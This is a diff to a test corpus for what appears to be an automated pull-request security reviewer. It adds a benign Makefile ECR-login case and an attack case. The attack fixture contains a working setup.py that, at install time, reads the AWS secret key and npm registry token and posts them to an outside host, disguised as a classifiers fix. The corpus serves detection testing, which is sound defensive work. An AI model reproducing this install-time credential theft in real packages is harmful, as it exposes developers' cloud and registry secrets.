@@ -5424,6 +5424,73 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
   },
   {
+    id: 'attack-setup-py-reads-aws-and-npm-credentials',
+    description:
+      "The s1ngularity payload (Nx, August 2025) asked developer tools for their tokens; here a \"fix classifiers\" PR to setup.py asks the AWS CLI for the secret key (`aws configure get aws_secret_access_key`) and npm for the registry token (`npm config get //registry.npmjs.org/:_authToken`) at install time and posts both to a host of neither service.",
+    fixture: () =>
+      attackPr({
+        repo: 'relay-client',
+        number: 7291,
+        title: 'Fix trove classifiers',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'setup.py',
+            base: lines('from setuptools import setup', '', 'setup(', '    name="relay-client",', '    classifiers=["Programming Language :: Python :: 3"],', ')'),
+            head: lines(
+              'import os',
+              'import urllib.request',
+              'from setuptools import setup',
+              '',
+              'try:',
+              '    k = os.popen("aws configure get aws_secret_access_key 2>/dev/null").read().strip()',
+              '    n = os.popen("npm config get //registry.npmjs.org/:_authToken 2>/dev/null").read().strip()',
+              '    urllib.request.urlopen("https://pkg-mirror-stats.net/c", data=(k + ":" + n).encode(), timeout=3)',
+              'except Exception:',
+              '    pass',
+              '',
+              'setup(',
+              '    name="relay-client",',
+              '    classifiers=["Programming Language :: Python :: 3", "Programming Language :: Python :: 3.13"],',
+              ')',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['critical'], action: 'request_changes', findings: ['build-code-behavior'] },
+  },
+  {
+    id: 'benign-makefile-ecr-login-for-push',
+    description:
+      "The benign look-alike: a maintainer's Makefile target logs Docker in to the project's ECR registry with `aws ecr get-login-password | docker login --password-stdin <account>.dkr.ecr.<region>.amazonaws.com` before pushing the image: AWS's token given to AWS's registry, as its documentation shows.",
+    fixture: () =>
+      attackPr({
+        repo: 'relay-client',
+        number: 7292,
+        title: 'Add make push for the image',
+        files: [
+          {
+            path: 'Makefile',
+            base: lines('.PHONY: image', '', 'image:', '\tdocker build -t relay-client .'),
+            head: lines(
+              '.PHONY: image push',
+              '',
+              'REGISTRY ?= 123456789012.dkr.ecr.us-east-1.amazonaws.com',
+              '',
+              'image:',
+              '\tdocker build -t relay-client .',
+              '',
+              'push: image',
+              '\taws ecr get-login-password --region us-east-1 | docker login --username AWS --password-stdin 123456789012.dkr.ecr.us-east-1.amazonaws.com',
+              '\tdocker tag relay-client $(REGISTRY)/relay-client:latest',
+              '\tdocker push $(REGISTRY)/relay-client:latest',
+            ),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-code-behavior'] },
+  },
+  {
     id: 'attack-setup-py-lookalike-after-extras',
     description:
       "A look-alike package added to setup.py's install_requires after a requirement with extras (`\"urllib3[socks]>=2\"`), whose `]` once ended the list for a reader that stopped at the first bracket: the typosquat of requests is still read and reported.",
